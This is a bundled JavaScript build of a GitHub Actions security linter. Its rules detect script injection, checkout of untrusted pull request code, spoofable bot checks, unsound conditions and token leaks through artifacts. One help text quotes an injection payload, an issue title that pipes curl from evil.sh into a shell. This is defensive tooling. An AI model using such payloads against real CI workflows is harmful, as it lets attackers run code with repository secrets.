    ['roots/issue-closer-action', ['issue-close-message', 'pr-close-message']],
    ['sergeysova/jq-action', ['cmd']],
    ['skitionek/notify-microsoft-teams', ['overwrite']],
    ['tibdex/backport', ['body_template', 'head_template', 'labels_template', 'title_template']],
    ['amadevus/pwsh-script', ['script']],
    ['jannekem/run-python-script-action', ['script']],
    ['cardinalby/js-eval-action', ['expression']],
    ['addnab/docker-run-action', ['options', 'run']]
]);
/**
 * Outputs of well-known actions that carry attacker-controlled text, by `owner/repo`: a pattern
 * on the output name. File names of a pull request (tj-actions/changed-files) and branch names
 * (tj-actions/branch-names) are chosen by whoever opens it.
 */
const TAINTED_OUTPUTS = new Map([
    ['tj-actions/changed-files', /files|directories/i],
    ['tj-actions/branch-names', /branch|ref|tag/i]
]);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/untrusted-input-in-script.js



const UNTRUSTED = UNTRUSTED_CONTEXTS.map((p) => p.split('.'));
/** The untrusted path a chain reads (as written in the list), if any. */
function untrusted(segments) {
    const names = segments.map((s) => s.name.toLowerCase());
    for (const pattern of UNTRUSTED) {
        if (names.length < pattern.length)
            continue;
        if (pattern.every((p, i) => p === '*' || names[i] === '*' || names[i] === p))
            return pattern.join('.');
    }
    return undefined;
}
/**
 * An object or array holding untrusted fields (`github.event`, `github.event.pull_request`, …)
 * serialized whole with `toJSON(…)`, which pastes every field, attacker text included.
 */
function untrustedObject(segments, expression) {
    const names = segments.map((s) => s.name.toLowerCase());
    if (names.length < 2 || names.includes('*'))
        return undefined;
    const prefix = UNTRUSTED.find((p) => p.length > names.length && names.every((n, i) => p[i] === n));
    if (!prefix)
        return undefined;
    const written = segments.map((s) => s.name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')).join('\\s*\\.\\s*');
    return new RegExp(`tojson\\s*\\(\\s*${written}\\s*\\)`, 'i').test(expression) ? `${names.join('.')} serialized whole, with untrusted fields such as ${prefix.join('.')}` : undefined;
}
/** The untrusted paths the expressions of a token read. */
function untrustedIn(token) {
    const found = [];
    for (const site of expressionSites(token))
        for (const chain of contextChains(site)) {
            const path = untrusted(chain.segments);
            if (path)
                found.push(path);
        }
    return found;
}
/** `owner/repo` of a `uses:`, lower case; undefined for local and docker actions. */
function repoOf(uses) {
    const m = /^([^./][^/@]*)\/([^/@]+)/.exec(uses?.trim() ?? '');
    return m ? `${m[1]}/${m[2]}`.toLowerCase() : undefined;
}
/**
 * Why the output `name` of an earlier step carries untrusted data, if it does: a well-known action
 * output, or a `run:` that writes untrusted data (expanded, or from its `env:`) to $GITHUB_OUTPUT
 * under that name.
 */
function taintedOutput(step, name) {
    const pattern = TAINTED_OUTPUTS.get(repoOf(step.uses?.value) ?? '');
    if (pattern?.test(name))
        return `an output of ${repoOf(step.uses?.value)}, names an attacker chooses`;
    const run = entryOf(step.token, 'run')?.value;
    const script = textOf(run);
    if (!script || !/GITHUB_OUTPUT/.test(script))
        return undefined;
    const escaped = name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    if (!new RegExp(`(^|[^\\w-])${escaped}(=|<<)`).test(script))
        return undefined;
    const direct = untrustedIn(run);
    if (direct.length)
        return `its run: writes ${direct[0]} to $GITHUB_OUTPUT`;
    for (const [variable, entry] of step.env) {
        const paths = untrustedIn(entry.value);
        if (paths.length && new RegExp(`\\$\\{?${variable.replace(/[^\w]/g, '')}\\b`).test(script))
            return `its run: writes ${paths[0]} (env ${variable}) to $GITHUB_OUTPUT`;
    }
    return undefined;
}
/**
 * Why the output `name` of job `id` carries untrusted data: its `outputs:` value expands
 * untrusted input, or a step output that carries it (one level: a job's outputs name its steps).
 */
function taintedJobOutput(workflow, id, name) {
    const job = workflow.jobsByLowerId.get(id.toLowerCase());
    const output = job?.outputs.get(name);
    if (!job || !output)
        return undefined;
    for (const site of expressionSites(output.value))
        for (const chain of contextChains(site)) {
            const path = untrusted(chain.segments);
            if (path)
                return `job "${job.id.value}" outputs ${path}`;
            const [ctx, step, outputs, stepOutput] = chain.segments.map((s) => s.name);
            if (ctx !== 'steps' || outputs !== 'outputs' || !stepOutput)
                continue;
            const source = job.steps.find((s) => s.id?.value === step);
            const why = source && taintedOutput(source, stepOutput);
            if (why)
                return `job "${job.id.value}" outputs steps.${step}.outputs.${stepOutput}, and step "${step}": ${why}`;
        }
    return undefined;
}
const untrusted_input_in_script_rule = {
    id: 'PG200',
    name: 'untrusted-input-in-script',
    level: 'error',
    description: 'Attacker-controlled data (titles, bodies, head refs, commit messages, `github.head_ref`, …, or a step or job output that carries them) expanded with `${{ }}` in `run:`, `actions/github-script`\'s `script:` or another action input that is code.',
    help: 'A `${{ }}` is pasted into the script before the shell (or JavaScript) runs, so an issue title such as `"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets: script injection. Pass the value through `env:` (`env: { TITLE: ${{ github.event.issue.title }} }`) and use it as `"$TITLE"` (or `process.env.TITLE`), where it stays data. The untrusted inputs are those of actionlint and GitHub\'s security hardening guide and the free-text fields of zizmor\'s context list; the code inputs of actions are zizmor\'s (CodeQL\'s sinks: `actions/github-script` `script`, `azure/cli` `inlineScript`, `mikefarah/yq` `cmd`, …); a step output is untrusted when the step writes untrusted data to `$GITHUB_OUTPUT` under its name, or is a file or branch name of `tj-actions/changed-files` or `tj-actions/branch-names`; a job output (`needs.<job>.outputs.<name>`) when its value is untrusted input or such a step output.',
    create(context) {
        return {
            step(step, owner, file) {
                const sites = [];
                const run = entryOf(step.token, 'run')?.value;
                if (run)
                    sites.push({ where: 'run:', token: run });
                const repo = repoOf(step.uses?.value);
                const with_ = entryOf(step.token, 'with')?.value;
                for (const input of CODE_INPUTS.get(repo ?? '') ?? []) {
                    const value = entryOf(with_, input)?.value;
                    if (value)
                        sites.push({ where: `${repo}'s ${input}:`, token: value });
                }
                const earlier = owner.steps.slice(0, step.index);
                for (const { where, token } of sites) {
                    for (const site of expressionSites(token)) {
                        for (const chain of contextChains(site)) {
                            const shown = chain.segments.map((s) => s.name).join('.');
                            const path = untrusted(chain.segments) ?? untrustedObject(chain.segments, chain.expression);
                            if (path) {
                                context.report(file.file, chain.segments[0], `"${shown}" is untrusted input (${path}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
                                continue;
                            }
                            const [ctx, id, outputs, name] = chain.segments.map((s) => s.name);
                            if (outputs !== 'outputs' || !name || name === '*')
                                continue;
                            let why;
                            if (ctx === 'steps') {
                                const source = earlier.find((s) => s.id?.value === id);
                                const tainted = source && taintedOutput(source, name);
                                why = tainted && `step "${id}": ${tainted}`;
                            }
                            else if (ctx === 'needs' && file.kind === 'workflow') {
                                why = taintedJobOutput(file, id, name);
                            }
                            if (why)
                                context.report(file.file, chain.segments[0], `"${shown}" carries untrusted input (${why}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
                        }
                    }
                }
            }
        };
    }
};
/* harmony default export */ const untrusted_input_in_script = (untrusted_input_in_script_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/untrusted-checkout.js
/** PG203 untrusted-checkout: a privileged `pull_request_target` or `workflow_run` job checks out the untrusted head. */


/** Expressions that name the code of the pull request or of the run that triggered `workflow_run`. */
const HEAD = [
    'github.event.pull_request.head.sha',
    'github.event.pull_request.head.ref',
    'github.event.pull_request.merge_commit_sha',
    'github.head_ref',
    'github.event.workflow_run.head_sha',
    'github.event.workflow_run.head_branch'
];
const PRIVILEGED = ['pull_request_target', 'workflow_run'];
const untrusted_checkout_rule = {
    id: 'PG203',
    name: 'untrusted-checkout',
    level: 'error',
    description: 'A `pull_request_target` or `workflow_run` workflow whose job checks out the untrusted head (`actions/checkout` with a `ref:` of the pull request head or `refs/pull/…/merge`).',
    help: '`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a write token, precisely so that they can act on pull requests from forks. Checking out the head of the pull request there and then building, testing or even installing it runs the attacker\'s code with those privileges ("pwn request"). Use `pull_request` for anything that runs the contributed code, and keep the privileged workflow to trusted steps (labelling, commenting on results it downloads as data).',
    create(context) {
        return {
            step(step, owner, file) {
                if (file.kind !== 'workflow' || !('id' in owner))
                    return;
                const trigger = PRIVILEGED.find((t) => file.on.has(t));
                if (!trigger || !/^actions\/checkout@/i.test(step.uses?.value ?? ''))
                    return;
                const ref = step.with.get('ref');
                if (!ref)
                    return;
                let found;
                for (const site of expressionSites(ref.value)) {
                    for (const chain of contextChains(site)) {
                        const path = chain.segments.map((s) => s.name.toLowerCase()).join('.');
                        if (HEAD.some((h) => path === h || path.startsWith(`${h}.`)))
                            found ??= { what: chain.segments.map((s) => s.name).join('.'), at: chain.segments[0] };
                    }
                }
                const text = (0,dist/* isString */.Kg)(ref.value) ? ref.value.value : (0,dist/* isBasicExpression */.hR)(ref.value) ? ref.value.toDisplayString() : '';
                if (!found && /refs\/pull\/[^/]+\/(merge|head)/.test(text)) {
                    const r = ref.value.range;
                    found = { what: 'refs/pull/…', at: { at: r ? { line: r.start.line, column: r.start.column } : ref.key.at } };
                }
                if (!found)
                    return;
                context.report(file.file, found.at, `job "${owner.id.value}" of a ${trigger} workflow checks out the untrusted head (${found.what}) with the base repository's secrets and write token; run contributed code under pull_request instead`);
            }
        };
    }
};
/* harmony default export */ const untrusted_checkout = (untrusted_checkout_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/unsound-condition.js


/** Why an `if:` text is always true, or undefined when it is sound (zizmor's is_unsound_fenced_expansion). */
function unsoundCondition(text) {
    const fence = firstFence(text);
    if (!fence || (fence.start === 0 && fence.end === text.length))
        return undefined;
    return describe(text.slice(0, fence.start) + text.slice(fence.end));
}
function describe(rest) {
    if (/^\s*\n\s*$/.test(rest))
        return 'the final newline the block scalar keeps (use |- or >-)';
    return `the text outside \${{ }} (${JSON.stringify(rest.length > 40 ? `${rest.slice(0, 40)}…` : rest)})`;
}
/**
 * A block scalar's value (`|`, `>`, with `-`/`+` chomping) from the source text of its lines;
 * undefined when the token is not a block scalar. GitHub's parser keeps a block's raw lines as the
 * source of an expression token, indentation and all.
 */
function blockValue(token, lines) {
    const r = token.range;
    const header = r ? /^([|>])([-+]?)\d*([-+]?)\s*(#.*)?$/.exec((lines[r.start.line - 1] ?? '').slice(r.start.column - 1)) : null;
    if (!r || !header)
        return undefined;
    // The block's lines: those indented past its key's line (GitHub's range ends at the next key).
    const keyIndent = /^[ -]*/.exec(lines[r.start.line - 1])[0].length;
    const body = [];
    for (let i = r.start.line; i < lines.length && i <= r.end.line; i++) {
        if (lines[i].trim() && /^ */.exec(lines[i])[0].length <= keyIndent)
            break;
        body.push(lines[i]);
    }
    const indent = Math.min(...body.filter((l) => l.trim()).map((l) => /^ */.exec(l)[0].length));
    const content = body.map((l) => l.slice(indent)).join(header[1] === '>' ? ' ' : '\n').replace(/\s+$/, '');
    const chomp = header[2] || header[3];
    return chomp === '-' ? content : `${content}\n`;
}
/**
 * Why an `if:` value is always true: its decoded text holds a `${{ }}` and anything else. A
 * value GitHub's parser left as a string (unknown contexts) is read as it is.
 */
function unsound(token, lines) {
    if (!token)
        return undefined;
    if (!(0,dist/* isBasicExpression */.hR)(token)) {
        const text = textOf(token);
        return text === undefined ? undefined : unsoundCondition(text);
    }
    const block = blockValue(token, lines);
    if (block !== undefined)
        return unsoundCondition(block);
    // A flow scalar: GitHub's parser made one expression of it; it is the value's only content
    // when it is the one `${{ }}` the value holds.
    const originals = token.originalExpressions;
    if (!originals?.length || (originals.length === 1 && originals[0].expression === token.expression))
        return undefined;
    const source = token.source ?? '';
    const text = /^(["']).*\1$/s.test(source) ? source.slice(1, -1) : source;
    return unsoundCondition(text) ?? 'the text around its ${{ }}';
}
const unsound_condition_rule = {
    id: 'PG220',
    name: 'unsound-condition',
    level: 'error',
    description: 'An `if:` whose `${{ }}` is not its whole value (text around it, or a `|`/`>` block that keeps its final newline): the condition is a non-empty string, always true.',
    help: 'When an `if:` holds a `${{ }}` and anything else, GitHub substitutes the expression into the text and tests the resulting string, which is never empty: `if: ${{ false }} && true` and `if: |` followed by `${{ cond }}` (the block keeps its newline) both always run the step. Write the condition bare (`if: a && b`) or as exactly one `${{ }}`; for a multi-line block use `|-` or `>-`. Same as zizmor\'s unsound-condition audit.',
    create(context) {
        // The lines of the file last read: split once a file, not once a condition.
        let lines = { text: [] };
        const check = (file, token, where) => {
            const entry = entryOf(token, 'if');
            if (!entry)
                return;
            if (lines.file !== file)
                lines = { file, text: file.text.split('\n') };
            const why = unsound(entry.value, lines.text);
            // At the value, where actionlint puts its if-cond finding.
            const start = entry.value.range?.start;
            if (why)
                context.report(file, start ? { at: { line: start.line, column: start.column } } : entry.key, `the if: of ${where} always evaluates to true: ${why} makes it a non-empty string; write the whole condition inside one \${{ }} or bare`);
        };
        return {
            jobPre(job, workflow) {
                check(workflow.file, job.token, `job "${job.id.value}"`);
            },
            step(step, _owner, file) {
                const name = step.id?.value ?? step.name?.value;
                check(file.file, step.token, name ? `step "${name}"` : `step ${step.index + 1}`);
            }
        };
    }
};
/* harmony default export */ const unsound_condition = (unsound_condition_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/obfuscation.js
/** PG221 obfuscation: `uses:` paths with `.`, `..` or empty parts, constant expressions, and `with:` as one expression. */





/** Functions zizmor evaluates when their arguments are constants (fromJSON left out, as zizmor does). */
const PURE = new Set(['contains', 'startswith', 'endswith', 'format', 'tojson', 'join']);
/** Whether an expression is a constant (zizmor's constant_reducible). */
function reducible(e) {
    if (e instanceof ast/* Literal */.uS)
        return true;
    if (e instanceof ast/* Binary */.yI)
        return reducible(e.left) && reducible(e.right);
    if (e instanceof ast/* Logical */.oD)
        return e.args.every(reducible);
    if (e instanceof ast/* Unary */._c)
        return reducible(e.expr);
    if (e instanceof ast/* Grouping */.aU)
        return reducible(e.group);
    if (e instanceof ast/* FunctionCall */.R6)
        return PURE.has(e.functionName.lexeme.toLowerCase()) && e.args.every(reducible);
    return false;
}
/** The largest constant sub-expressions that are not bare literals (zizmor's constant_reducible_subexprs). */
function reducibleParts(e, out, depth = 0) {
    if (depth > 200)
        return;
    if (!(e instanceof ast/* Literal */.uS) && reducible(e)) {
        out.push(e);
        return;
    }
    const next = (x) => reducibleParts(x, out, depth + 1);
    if (e instanceof ast/* FunctionCall */.R6 || e instanceof ast/* Logical */.oD)
        e.args.forEach(next);
    else if (e instanceof ast/* Binary */.yI)
        [e.left, e.right].forEach(next);
    else if (e instanceof ast/* Unary */._c)
        next(e.expr);
    else if (e instanceof ast/* Grouping */.aU)
        next(e.group);
    else if (e instanceof ast/* IndexAccess */.p_)
        [e.expr, e.index].forEach(next);
}
/** The lexer position where an expression starts (its leftmost token). */
function obfuscation_startOf(e, depth = 0) {
    if (depth > 200)
        return undefined;
    if (e instanceof ast/* Literal */.uS)
        return e.token.range.start;
    if (e instanceof ast/* FunctionCall */.R6)
        return e.functionName.range.start;
    if (e instanceof ast/* ContextAccess */.QC)
        return e.name.range.start;
    if (e instanceof ast/* Unary */._c)
        return e.operator.range.start;
    if (e instanceof ast/* Binary */.yI)
        return obfuscation_startOf(e.left, depth + 1);
    if (e instanceof ast/* Logical */.oD)
        return e.args.length ? obfuscation_startOf(e.args[0], depth + 1) : e.operator.range.start;
    if (e instanceof ast/* IndexAccess */.p_)
        return obfuscation_startOf(e.expr, depth + 1);
    if (e instanceof ast/* Grouping */.aU) {
        const inner = obfuscation_startOf(e.group, depth + 1);
        return inner && { line: inner.line, column: Math.max(0, inner.column - 1) };
    }
    return undefined;
}
/** Why a `uses:` path is obfuscated: `.`, `..` or empty components after owner/repo. */
function obfuscatedUses(uses) {
    if (uses.startsWith('./') || uses.startsWith('docker://') || uses.includes('${{'))
        return [];
    const at = uses.lastIndexOf('@');
    const path = (at < 0 ? uses : uses.slice(0, at)).split('/');
    const why = new Set();
    for (const part of path.slice(2)) {
        if (part === '.')
            why.add('"."');
        else if (part === '..')
            why.add('".."');
        else if (part === '')
            why.add('an empty component');
    }
    return [...why];
}
/**
 * Every `${{ }}` of a file, also those of strings GitHub's parser left as strings (an `if:`, or a
 * value whose expression names an unknown context): those are read from the file's lines.
 */
function fencedSites(model) {
    const sites = expressionSites(model.root);
    const lines = model.file.text.split('\n');
    for (const [, token, key] of template_token/* TemplateToken */.s.traverse(model.root)) {
        if (token === key || !(0,dist/* isString */.Kg)(token) || typeof token.value !== 'string' || !token.value.includes('${{') || !token.range)
            continue;
        const { start, end } = token.range;
        for (let line = start.line; line <= end.line && line <= lines.length; line++) {
            const text = lines[line - 1];
            const from = line === start.line ? start.column - 1 : 0;
            const re = /\$\{\{(.*?)\}\}/g;
            re.lastIndex = from;
            for (let m = re.exec(text); m; m = re.exec(text))
                sites.push({ text: m[1], at: { line, column: m.index + 4 } });
        }
    }
    return sites;
}
const obfuscation_rule = {
    id: 'PG221',
    name: 'obfuscation',
    level: 'note',
    description: 'Obfuscated workflow features: `uses:` paths with `.`, `..` or empty components, `${{ }}` expressions that are constants, and `with:` given as one expression.',
    help: '`uses: actions/checkout////@…` or `github/codeql-action/./init@…` run the same action as the plain path but defeat every pattern that matches `uses:` (pinning, allow and deny lists, reviewers\' eyes); `${{ format(\'{0}\', \'abc\') }}` or `${{ true || false }}` are constants dressed as expressions; `with: ${{ fromJSON(…) }}` hides the action\'s inputs from analysis. Write the normalized path, the constant\'s value, and the inputs one by one. Same as zizmor\'s obfuscation audit (its pedantic "computed index" check is left out).',
    create(context) {
        const checkFile = (model) => {
            // A wholly constant if: is PG143 constant-if's finding; one fault, one finding.
            const steps = model.kind === 'workflow' ? model.jobs.flatMap((j) => j.steps) : model.steps;
            const ifLines = new Set();
            for (const owner of [...(model.kind === 'workflow' ? model.jobs : []), ...steps]) {
                const range = entryOf(owner.token, 'if')?.value.range;
                for (let line = range?.start.line ?? 1; range && line <= range.end.line; line++)
                    ifLines.add(line);
            }
            for (const site of fencedSites(model)) {
                const parsed = parseSite(site);
                if (!parsed)
                    continue;
                const parts = [];
                // `${{ '${{ x }}' }}` is how a workflow writes a literal `${{`: an escape, not a disguise.
                if (parsed.tree instanceof ast/* Literal */.uS && String(parsed.tree.token.value ?? '').includes('${{'))
                    continue;
                const whole = reducible(parsed.tree);
                if (whole && ifLines.has(site.at.line))
                    continue;
                if (whole)
                    parts.push(parsed.tree);
                else
                    reducibleParts(parsed.tree, parts);
                for (const part of parts) {
                    const start = obfuscation_startOf(part);
                    const at = start ? parsed.toPos(start) : site.at;
                    const what = whole ? `\${{ ${site.text.trim()} }} is a constant; write its value instead` : 'part of this expression is a constant; write its value instead';
                    context.report(model.file, { at }, what);
                }
            }
        };
        return {
            workflowPre: checkFile,
            actionPre: checkFile,
            step(step, _owner, file) {
                const uses = entryOf(step.token, 'uses');
                if (!uses || !step.uses)
                    return;
                const why = obfuscatedUses(step.uses.value.trim());
                if (why.length)
                    context.report(file.file, uses.key, `"${step.uses.value.trim()}" has ${why.join(' and ')} in its path; write the normalized path so that pinning and allow lists see the real action`);
                const withEntry = entryOf(step.token, 'with');
                if (withEntry && (0,dist/* isBasicExpression */.hR)(withEntry.value) && !step.uses.value.startsWith('./')) {
                    context.report(file.file, withEntry.key, `with: is one expression, which hides the inputs given to "${step.uses.value.trim()}" from review and analysis; list the inputs one by one`);
                }
            }
        };
    }
};
/* harmony default export */ const obfuscation = (obfuscation_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/dangerous-triggers.js

const TRIGGERS = {
    pull_request_target: 'runs with the base repository\'s secrets and a write token on every pull request, forks included',
    workflow_run: 'runs with the repository\'s secrets and a write token after workflows that pull requests from forks can trigger'
};
const dangerous_triggers_rule = {
    id: 'PG206',
    name: 'dangerous-triggers',
    level: 'warning',
    description: 'A workflow triggered by `pull_request_target` or `workflow_run`, privileged triggers that are almost always used insecurely (zizmor\'s dangerous-triggers).',
    help: '`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a token that can write, yet they are started by pull requests from anyone. Whatever such a workflow reads from the pull request (its code, branch names, titles, artifacts of the triggering run) is attacker-controlled. Prefer `pull_request`, which runs forks without secrets; if the privilege is needed, keep the job to trusted steps and treat every input as data. PG203 untrusted-checkout reports the worst case, checking out the pull request\'s head. A workflow whose only job has a single `actions/labeler` step is not reported (the use these triggers were made for).',
    create(context) {
        return {
            workflowPre(workflow) {
                const on = keyNode(workflow.root, 'on');
                if (!on)
                    return;
                const job = workflow.jobs.length === 1 ? workflow.jobs[0] : undefined;
                const labeler = !!job && !job.uses && job.steps.length === 1 && /^actions\/labeler(@|$)/i.test(job.steps[0].uses?.value ?? '');
                for (const [name, why] of Object.entries(TRIGGERS)) {
                    if (!workflow.on.has(name) || (name === 'pull_request_target' && labeler))
                        continue;
                    context.report(workflow.file, on, `on: ${name} ${why}; use pull_request where possible, or keep this workflow to trusted steps that treat the pull request as data`);
                }
            }
        };
    }
};
/* harmony default export */ const dangerous_triggers = (dangerous_triggers_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/bot-conditions.js
/** PG207 bot-conditions: `if: github.actor == 'dependabot[bot]'`, a check anyone can pass. */


const ACTOR_NAMES = ['github.actor', 'github.triggering_actor', 'github.event.pull_request.sender.login'];
const ACTOR_IDS = ['github.actor_id', 'github.event.pull_request.sender.id'];
/** Bot ids that have no `[bot]` suffix to recognize them by: dependabot (and its integration), dependabot-preview, renovate. */
const BOT_IDS = ['29110', '49699333', '27856297', '29139614'];
/** The event's own user, who a contributor cannot swap for a bot, by trigger (zizmor's fix). */
const EVENT_USER = {
    issue_comment: 'github.event.comment.user',
    discussion_comment: 'github.event.comment.user',
    pull_request_review: 'github.event.review.user',
    pull_request_review_comment: 'github.event.comment.user',
    issues: 'github.event.issue.user',
    discussion: 'github.event.discussion.user',
    pull_request: 'github.event.pull_request.user',
    pull_request_target: 'github.event.pull_request.user',
    release: 'github.event.release.author',
    milestone: 'github.event.milestone.creator'
};
/** What to check instead: the only trigger's user, or the pull request's author. */
function safeActor(on, actorPath) {
    const only = on.size === 1 ? [...on.keys()][0] : undefined;
    const user = (only && EVENT_USER[only]) ?? 'github.event.pull_request.user';
    return `${user}.${ACTOR_IDS.includes(actorPath) ? 'id' : 'login'}`;
}
function literalText(e) {
    return e instanceof ast/* Literal */.uS ? String(e.token.value ?? e.token.lexeme) : undefined;
}
/** A bot check `actor == '…[bot]'` (or a bot id) among both sides of `==`. */
function botCheck(eq) {
    const [l, r] = [ungroup(eq.left), ungroup(eq.right)];
    const actor = isContextRead(l) ? l : isContextRead(r) ? r : undefined;
    const lit = literalText(l) ?? literalText(r);
    if (!actor || lit === undefined)
        return undefined;
    const path = contextPath(actor) ?? '';
    if (ACTOR_NAMES.includes(path) && lit.endsWith('[bot]'))
        return { eq, actor };
    if (ACTOR_IDS.includes(path) && BOT_IDS.includes(lit))
        return { eq, actor };
    return undefined;
}
/**
 * zizmor's walk: the first bot check of a condition, and whether it dominates (decides the whole
 * condition: reached through `||` and `==` only, not through `&&`, `!` or a call's argument).
 */
function walk(e, dominating) {
    const node = ungroup(e);
    if (node instanceof ast/* Logical */.oD && node.operator.lexeme === '||') {
        let hit;
        for (const a of node.args)
            hit ??= walk(a, true)[0];
        return [hit, true];
    }
    if (node instanceof ast/* Binary */.yI && node.operator.lexeme === '==') {
        const [l, r] = [ungroup(node.left), ungroup(node.right)];
        if (isContextRead(l) || isContextRead(r)) {
            if (literalText(l) !== undefined || literalText(r) !== undefined)
                return [botCheck(node), true];
        }
        else
            return [undefined, true];
        return [walk(node.left, true)[0] ?? walk(node.right, true)[0], true];
    }
    if (node instanceof ast/* Logical */.oD || node instanceof ast/* Binary */.yI) {
        let hit;
        for (const a of childrenOf(node))
            hit ??= walk(a, false)[0];
        return [hit, false];
    }
    if (node instanceof ast/* Unary */._c)
        return walk(node.expr, false);
    const children = childrenOf(node);
    if (children.length === 0)
        return [undefined, dominating];
    let hit;
    for (const c of children)
        hit ??= walk(c, false)[0];
    return [hit, false];
}
const bot_conditions_rule = {
    id: 'PG207',
    name: 'bot-conditions',
    level: 'error',
    description: 'A job or step condition that trusts `github.actor` (or `triggering_actor`, `actor_id`) to be a bot such as `dependabot[bot]` (zizmor\'s bot-conditions).',
    help: '`github.actor` is whoever caused the latest event of the run, not who wrote the code: a contributor can make a bot the actor (by re-running a job after dependabot updated its branch, or by a comment that makes the bot push), so `if: github.actor == \'dependabot[bot]\'` can be passed by an attacker under `pull_request_target` and similar triggers. Check who opened the pull request instead (`github.event.pull_request.user.login`), or the event\'s own user field. A check that does not decide the whole condition (joined with `&&`) is reported as a warning.',
    create(context) {
        return {
            jobPre(job, workflow) {
                if (job.uses)
                    return;
                for (const { site, tree } of jobConditions(job)) {
                    const [hit, dominating] = walk(tree, true);
                    if (!hit)
                        continue;
                    const start = startOf(hit.eq);
                    const at = start ? filePos(site, start) : site.at;
                    const actor = contextText(hit.actor);
                    const instead = safeActor(workflow.on, contextPath(hit.actor) ?? '');
                    context.report(workflow.file, { at }, `condition "${actor} == …" is a spoofable bot check: the actor is whoever caused the latest event, which a contributor can arrange to be the bot; check ${instead} instead${dominating ? '' : ' (it decides the condition only together with other terms)'}`, dominating ? undefined : 'warning');
                }
            }
        };
    }
};
/* harmony default export */ const bot_conditions = (bot_conditions_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/unsound-contains.js
/** PG208 unsound-contains: `contains('main,develop', github.ref_name)` matches substrings an attacker picks. */


/** Contexts a contributor can set to any text (zizmor's list). */
const CONTROLLABLE = ['env', 'github.actor', 'github.base_ref', 'github.head_ref', 'github.ref', 'github.ref_name', 'github.sha', 'github.triggering_actor', 'inputs'];
/** The contexts tested with `contains('<string>', <context>)` in an expression. */
function unsound_contains_unsound(e, out) {
    const node = ungroup(e);
    if (node instanceof ast/* FunctionCall */.R6 && node.functionName.lexeme.toLowerCase() === 'contains' && node.args.length === 2) {
        const [hay, needle] = node.args.map(ungroup);
        const isString = hay instanceof ast/* Literal */.uS && typeof hay.token.value === 'string';
        if (isString && isContextRead(needle)) {
            out.push(needle);
            return out;
        }
    }
    for (const c of childrenOf(node))
        unsound_contains_unsound(c, out);
    return out;
}
const unsound_contains_rule = {
    id: 'PG208',
    name: 'unsound-contains',
    level: 'error',
    description: 'A condition `contains(\'<string>\', <context>)` that tests membership in a list written as one string, so any substring passes (zizmor\'s unsound-contains).',
    help: 'With a string as its first argument, `contains` tests for a substring: `contains(\'refs/heads/main refs/heads/develop\', github.ref)` is also true for a branch named `main` or `heads/dev`, which a contributor can create. Test against an array instead: `contains(fromJSON(\'["refs/heads/main", "refs/heads/develop"]\'), github.ref)`, or compare with `==`. Contexts no contributor controls (such as `runner.name`) are reported as notes.',
    create(context) {
        return {
            jobPre(job, workflow) {
                if (job.uses)
                    return;
                for (const { key, tree } of jobConditions(job)) {
                    for (const needle of unsound_contains_unsound(tree, [])) {
                        const path = contextPath(needle) ?? '';
                        const controllable = CONTROLLABLE.some((c) => path === c || path.startsWith(`${c}.`));
                        const name = contextText(needle);
                        context.report(workflow.file, key, `contains(…) with a string tests for a substring, so this condition can be bypassed ${controllable ? 'by anyone who controls' : 'when something else controls'} '${name}'; test against an array: contains(fromJSON('["a", "b"]'), ${name})`, controllable ? undefined : 'note');
                    }
                }
            }
        };
    }
};
/* harmony default export */ const unsound_contains = (unsound_contains_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/artipacked.js
/** PG215 artipacked: a checkout that keeps its token in `.git/config`, then an artifact of the workspace. */

/** The patterns of an upload's `path:` that take the whole workspace (zizmor's dangerous_artifact_patterns). */
function workspacePatterns(path) {
    return path
        .split('\n')
        .map((l) => l.trim())
        .filter((l) => l && !l.startsWith('#'))
        .filter((l) => ['.', './', '..', '../'].includes(l) || (/^\$\{\{.*\}\}$/s.test(l) && l.includes('github.workspace')));
}
function artipacked_action(step, name) {
    const uses = step.uses?.value.toLowerCase() ?? '';
    return uses.startsWith(`${name}@`) || uses === name;
}
/** True for a checkout that leaves its credentials in the workspace (no persist-credentials: false). */
function persists(step) {
    if (!artipacked_action(step, 'actions/checkout'))
        return false;
    const v = step.with.get('persist-credentials')?.value;
    // `true` is a choice made on purpose, and an expression cannot be judged: zizmor leaves both to its auditor and pedantic personas.
    return v === undefined;
}
/** v6 and later keep the credentials under $RUNNER_TEMP, out of the workspace (a tag such as v6 or v6.1.0 says so). */
function v6OrLater(step) {
    const m = /@v(\d+)/i.exec(step.uses?.value ?? '');
    return !!m && Number(m[1]) >= 6;
}
const artipacked_rule = {
    id: 'PG215',
    name: 'artipacked',
    level: 'error',
    description: 'An `actions/checkout` without `persist-credentials: false` followed by an `actions/upload-artifact` of the whole workspace, which publishes the token the checkout stored (zizmor\'s artipacked).',
    help: '`actions/checkout` (before v6) writes the job\'s token into `.git/config` in the workspace, so that later `git push` works. Uploading the workspace (`path: .`, or `${{ github.workspace }}`) as an artifact then publishes that token to anyone who can download the run\'s artifacts, which for a public repository is everyone. Set `with: { persist-credentials: false }` on the checkout (and pass a token only to the step that pushes), and upload only the files you need. A checkout without `persist-credentials: false` and no such upload is not reported (zizmor reports it with low confidence); v6 and later, which keep the token outside the workspace, are reported as a warning.',
    create(context) {
        const check = (file, steps) => {
            const uploads = steps.filter((s) => {
                const path = s.with.get('path')?.value;
                const text = path && (0,dist/* isString */.Kg)(path) ? path.value : path && (0,dist/* isBasicExpression */.hR)(path) ? path.toDisplayString() : '';
                return artipacked_action(s, 'actions/upload-artifact') && workspacePatterns(text).length > 0;
            });
            for (const checkout of steps.filter(persists)) {
                const upload = uploads.find((u) => u.index > checkout.index);
                if (!upload)
                    continue;
                const uses = checkout.uses?.value ?? 'actions/checkout';
